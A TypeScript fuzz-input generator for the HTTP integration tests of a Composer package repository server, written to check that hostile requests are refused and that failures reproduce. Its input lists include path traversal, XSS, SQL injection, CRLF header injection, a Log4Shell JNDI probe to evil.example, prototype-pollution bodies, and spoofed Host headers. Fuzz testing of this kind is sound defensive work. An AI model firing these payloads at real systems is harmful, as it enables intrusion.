// The fuzz suite's inputs (see src/server/http/fuzz-*.int.test.ts): hostile strings, NUL and other control
// characters, huge numbers, wrong types, deep nesting, long strings, prototype keys, odd headers and hosts, drawn
// from a seeded generator so that every run sends the same requests and a failure reproduces.
import type { FixtureHolder, FixturePackage } from '../composer/repository-fixtures.js';
import type { TestUser } from './sessions.js';

export type Route = { method: string; url: string };

/** mulberry32: small, fast and seeded, so a failure reproduces. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const hostileStrings = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  'line\r\nSet-Cookie: injected=1',
  '\u0001\u001f\u007f',
  '\ud800',
  '\udfff\ud800',
  '😀',
  '\u202eevil',
  'a'.repeat(10_000),
  `${'a'.repeat(60)}!`,
  `${'1'.repeat(40)}.x`,
  `v${'0.'.repeat(200)}0`,
  'vendor/package',
  `${'a'.repeat(36)}!/x`,
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  "' OR 1=1 --",
  '"; drop table users; --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally.
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '-1',
  '1e309',
  'http://evil.example/',
  'javascript:alert(1)',
  'a@b',
  `${'x'.repeat(300)}@example.com`,
  'holder@example.com',
  '00000000-0000-0000-0000-000000000000',
  'dev-main',
  'v1.0.0',
  'pgc_not-a-real-token',
  'pga_not-a-real-token',
];
const hostileNumbers = [0, -1, 1, 1.5, -0.000001, 2 ** 53 + 1, 1e308, -1e308, Number.MAX_SAFE_INTEGER, 4294967296];
const keyPool = [
  'email',
  'name',
  'description',
  'id',
  'userId',
  'tierId',
  'packageId',
  'repository',
  'repositoryUrl',
  'brandName',
  'brandDomain',
  'brandLogo',
  'brandColor',
  'supportEmail',
  'emailFromName',
  'note',
  'expiresAt',
  'downloadLimit',
  'endMode',
  'version',
  'token',
  'scopes',
  'permissions',
  'successUrl',
  'cancelUrl',
  'sessionId',
  'immediately',
  'value',
  'key',
  'tiers',
  'trialDays',
  'downloads',
  'active',
  'isActive',
  'price',
  'monthlyPrice',
  'features',
  'limit',
  'page',
  'search',
  '__proto__',
  'constructor',
];

/** encodeURIComponent, but a lone surrogate (which it refuses) goes out as the invalid UTF-8 bytes it would be. */
function encode(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
}

function deeplyNested(depth: number, open: string, close: string, inner = '1'): string {
  return `${open.repeat(depth)}${inner}${close.repeat(depth)}`;
}

/** Raw JSON texts that JSON.stringify cannot produce. */
const rawBodies = [
  '',
  '{',
  '{"a":',
  'null',
  '"just a string"',
  '[]',
  '1e99999',
  '-1e99999',
  '123456789012345678901234567890',
  '{"__proto__":{"isAdmin":true,"userType":"admin"}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"email":"a\\u0000@example.com"}',
  '{"name":"\\ud800"}',
  deeplyNested(20_000, '[', ']'),
  deeplyNested(5_000, '{"a":', '}'),
  `{"a":"${'x'.repeat(900_000)}"}`,
  `[${'1,'.repeat(100_000)}1]`,
];
const contentTypes = [
  'application/json',
  'application/json',
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'application/octet-stream',
  'application/jsonx',
  '*/*',
  undefined,
];

/**
 * Host headers (issue 28): userinfo, paths, ports, IDNs and very long names around a seller's repository host. Those
 * marked valid are `hostname[:port]` and must be answered as any host is; every other one must be refused with 400 in
 * the error shape before any route (or by Node's parser, on a real socket, in the same shape or by closing).
 */
export function hostileHosts(repositoryHost: string, port: number): Array<{ host: string; isValid: boolean }> {
  const seller = `${repositoryHost}:${port}`;
  const invalid = [
    `${seller}@evil.example`,
    `user@${seller}`,
    `user:pass@${seller}`,
    `${seller}@evil.example:${port}`,
    `${repositoryHost}/portal`,
    `${seller}/x?y=1`,
    `${seller}#x`,
    `${seller}\\evil.example`,
    `${repositoryHost}:1:2`,
    `${repositoryHost}::${port}`,
    `${repositoryHost}:`,
    `${repositoryHost}:0`,
    `${repositoryHost}:65536`,
    `${repositoryHost}:99999999999999999999`,
    `${repositoryHost}:http`,
    `${repositoryHost}:-1`,
    `${repositoryHost}: ${port}`,
    `.${repositoryHost}`,
    `acme..composer.localhost:${port}`,
    `${'a'.repeat(64)}.composer.localhost:${port}`,
    `${'abcdefghi.'.repeat(26)}composer.localhost:${port}`,
    `${'a'.repeat(10_000)}:${port}`,
    `bücher.composer.localhost:${port}`,
    `аcme.composer.localhost:${port}`,
    `😀.composer.localhost:${port}`,
    `%61cme.composer.localhost:${port}`,
    `*.composer.localhost:${port}`,
    `xn--acme-9ta.example:${port}`,
    `acme.0x1:${port}`,
    `${repositoryHost},evil.example`,
    '999.0.0.1',
    '[::1',
    `[::1]:${port}@evil.example`,
    '[fe80::1%25eth0]',
    '[v1.x]',
    `[${repositoryHost}]`,
  ];
  const valid = [
    seller,
    `ACME.Composer.Localhost.:${port}`,
    `xn--bcher-kva.composer.localhost:${port}`,
    `xn--bcher-kva.example:${port}`,
    `[::1]:${port}`,
    `127.0.0.1:${port}`,
    `${'a'.repeat(63)}.composer.localhost:${port}`,
    `${repositoryHost}:1`,
  ];
  return [...invalid.map((host) => ({ host, isValid: false })), ...valid.map((host) => ({ host, isValid: true }))];
}

export type FuzzFixtures = {
  seller: TestUser;
  pkg: FixturePackage;
  holder: FixtureHolder;
};

export class InputGenerator {
  readonly random: () => number;

  constructor(
    private readonly fixtures: FuzzFixtures,
    seed: number,
  ) {
    this.random = seededRandom(seed);
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)]!;
  }

  chance(probability: number): boolean {
    return this.random() < probability;
  }

  text(): string {
    if (this.chance(0.1)) {
      const length = Math.floor(this.random() * 40);
      return String.fromCharCode(...Array.from({ length }, () => Math.floor(this.random() * 0xffff)));
    }
    return this.pick(hostileStrings);
  }

  value(depth = 0): unknown {
    const kind = this.random();
    if (kind < 0.45) return this.text();
    if (kind < 0.6) return this.pick(hostileNumbers);
    if (kind < 0.7) return this.pick([true, false, null]);
    if (depth > 3) return this.text();
    if (kind < 0.85) return Array.from({ length: Math.floor(this.random() * 4) }, () => this.value(depth + 1));
    return this.object(depth + 1);
  }

  object(depth = 0): Record<string, unknown> {
    const object: Record<string, unknown> = {};
    const keys = Math.floor(this.random() * 6);
    for (let index = 0; index < keys; index++) {
      const key = this.chance(0.9) ? this.pick(keyPool) : this.text();
      Object.defineProperty(object, key, { value: this.value(depth), enumerable: true, writable: true });
    }
    return object;
  }

  paramValue(name: string): string {
    const { pkg, seller } = this.fixtures;
    const real: Record<string, string[]> = {
      id: [pkg.id],
      userId: [seller.id],
      vendor: [pkg.name.split('/')[0]!],
      package: [pkg.name.split('/')[1]!],
      file: [`${pkg.name.split('/')[1]}.json`, `${pkg.name.split('/')[1]}~dev.json`],
      version: ['v1.0.0', 'dev-main'],
    };
    if (this.chance(0.3) && real[name]) return encode(this.pick(real[name]));
    if (this.chance(0.05)) return this.pick(['%', '%zz', '%00', '%2e%2e', '..', '%c0%af', 'a%2Fb']);
    return encode(this.text()).slice(0, 2_000) || 'x';
  }

  path(route: Route): string {
    const path = route.url.replace(/:(\w+)/g, (_match, name: string) => this.paramValue(name));
    if (!this.chance(0.3)) return path;
    const pairs = Array.from({ length: 1 + Math.floor(this.random() * 3) }, () => {
      const key = this.chance(0.8) ? this.pick(keyPool) : this.text();
      return `${encode(key)}=${encode(this.text()).slice(0, 4_000)}`;
    });
    return `${path}?${pairs.join('&')}`;
  }

  body(method: string): { payload?: string; contentType?: string } {
    if (method === 'GET' || method === 'DELETE' ? this.chance(0.9) : this.chance(0.05)) return {};
    const contentType = this.pick(contentTypes);
    if (this.chance(0.15)) return { payload: this.pick(rawBodies), contentType };
    return { payload: JSON.stringify(this.chance(0.8) ? this.object() : this.value()), contentType };
  }

  oddHeaders(): Record<string, string> {
    const headers: Record<string, string> = {};
    if (this.chance(0.1)) headers['x-forwarded-for'] = this.pick(['1.2.3.4, 5.6.7.8', 'not-an-ip', '::1', '']);
    if (this.chance(0.1)) headers['if-modified-since'] = this.pick(['yesterday', 'Thu, 01 Jan 1970 00:00:00 GMT', '']);
    if (this.chance(0.05)) headers['accept-encoding'] = this.pick(['gzip;q=0', 'br, gzip', '*;q=0']);
    if (this.chance(0.05)) headers.accept = this.pick(['text/html', '*/*', 'application/xml']);
    if (this.chance(0.05)) headers.range = 'bytes=0-1,5-';
    if (this.chance(0.05)) headers['x-csrf-token'] = this.pick(['', 'f'.repeat(64), 'x'.repeat(5_000)]);
    if (this.chance(0.05)) headers['idempotency-key'] = this.pick(['', 'k'.repeat(500), 'same-key']);
    // Without TRUST_PROXY these count for nothing: the host stays the one Host names.
    if (this.chance(0.05)) {
      headers['x-forwarded-host'] = this.pick(['evil.example', 'acme.composer.localhost:1@evil.example', '', 'a, b']);
    }
    if (this.chance(0.05)) headers['x-forwarded-proto'] = this.pick(['https', 'gopher', '']);
    return headers;
  }
}
